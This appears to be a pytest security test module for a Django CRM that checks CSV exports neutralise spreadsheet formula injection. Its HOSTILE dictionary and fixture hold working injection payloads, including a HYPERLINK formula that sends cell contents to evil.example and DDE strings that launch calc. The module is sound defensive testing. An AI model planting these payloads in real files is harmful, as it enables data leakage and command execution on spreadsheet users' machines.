"""CSV formula injection (issue 17, item 6): names from outside reach every CSV the product
writes, and a spreadsheet must show them as text, never run them; numbers stay numbers.

The product's CSV downloads: /brands/<id>/metrics.csv (partnerships/dashboard.py). Each goes
through crm.csv_safety.csv_writer; a new download is added to DOWNLOADS below.
"""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse

# tests/security/conftest.py replaces ``db`` with the permission matrix's module-wide world; these
# tests build their own records with tests/conftest.py's per-test fixtures, so pytest-django's own.
from pytest_django.fixtures import db  # noqa: F401

from crm.csv_safety import FORMULA_STARTS, csv_cell, csv_writer
from influencers.models import Community, Creator, Platform
from partnerships.measurement.services import brand_measure
from partnerships.models import Brand, CommunityStance, Partnership, Stage

pytestmark = pytest.mark.django_db

# What an attacker names a creator or a brand: each would run in Excel or LibreOffice. (Communities
# are written by their key, ``reddit:…``, which begins with the platform's name.)
HOSTILE = {
    "creator": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "another creator": "@SUM(1+1)*cmd|' /C calc'!A0",
    "brand": "+Inkwell",
    "other creator": "-2+3",
    "tabbed creator": "\t=1+1",
    "returned creator": "\r=1+1",
}


@pytest.fixture
def hostile_measurement(org_a, make_identity, make_interaction):
    """A measured brand whose partners and own name (and its community's) begin with formula characters."""
    community = Community.objects.create(platform=Platform.REDDIT, external_id="evil", name="=cmd|' /C calc'!A0")
    brand = Brand.objects.create(organization=org_a, name=HOSTILE["brand"], slug="inkwell", aliases=["Inkwell"])
    CommunityStance.objects.create(brand=brand, community=community)
    member = make_identity("member")
    texts = ["Inkwell is terrible, the bottles leak, avoid.", "Inkwell ink is awful and I hate it.", "no brand"]
    for day, text in enumerate(texts):
        make_interaction(
            f"t3_{day}", member, community=community, title="Ink", text=text, at=datetime(2026, 1, 5 + day, tzinfo=UTC)
        )
    for key in ("creator", "another creator", "other creator", "tabbed creator", "returned creator"):
        creator = Creator.objects.create(display_name=HOSTILE[key])
        Partnership.objects.create(brand=brand, creator=creator, stage=Stage.ACTIVE)
    measurement = brand_measure(brand=brand)
    assert measurement.document["mentions"]["by_community"], "the community must have a row of its own"
    return measurement


def _metrics_csv(client: Client, measurement) -> str:
    return client.get(reverse("brand-metrics-csv", args=[measurement.brand_id])).content.decode()


# Every CSV download: (name, a function of the logged-in client and the fixture giving its body).
DOWNLOADS = [("brand metrics", _metrics_csv)]


@pytest.mark.parametrize("download", [d for _, d in DOWNLOADS], ids=[name for name, _ in DOWNLOADS])
def test_every_csv_download_keeps_names_from_outside_as_text(client, manager_a, hostile_measurement, download):
    client.force_login(manager_a)
    body = download(client, hostile_measurement)
    # Read as a spreadsheet does: unquoted cells are numbers (float), quoted ones text.
    rows = list(csv.reader(io.StringIO(body, newline=""), quoting=csv.QUOTE_NONNUMERIC))
    text_cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert not [cell for cell in text_cells if cell.startswith(FORMULA_STARTS)]
    for name in HOSTILE.values():
        assert any(cell.startswith("'" + name) for cell in text_cells), f"{name!r} not written, or not neutralised"
    # Numbers the product computes are still numbers a spreadsheet can add up, negative ones too.
    numbers = [cell for row in rows for cell in row if isinstance(cell, float)]
    assert numbers and any(number < 0 for number in numbers)


def test_a_cell_is_neutralised_by_its_first_character_and_only_text_is():
    assert [csv_cell(start + "1+1") for start in FORMULA_STARTS] == ["'" + start + "1+1" for start in FORMULA_STARTS]
    assert csv_cell("Ivy Lambert") == "Ivy Lambert" and csv_cell("r/fountain=pens") == "r/fountain=pens"
    assert csv_cell(-0.25) == -0.25 and csv_cell(-3) == -3 and csv_cell(Decimal("-1.50")) == Decimal("-1.50")
    out = io.StringIO()
    csv_writer(out).writerow(["=cmd", -0.25, None, "a;=1+1"])
    # Text quoted (a ';' inside cannot start a cell where ';' separates them), numbers bare, None empty.
    assert out.getvalue() == '"\'=cmd",-0.25,"","a;=1+1"\r\n'
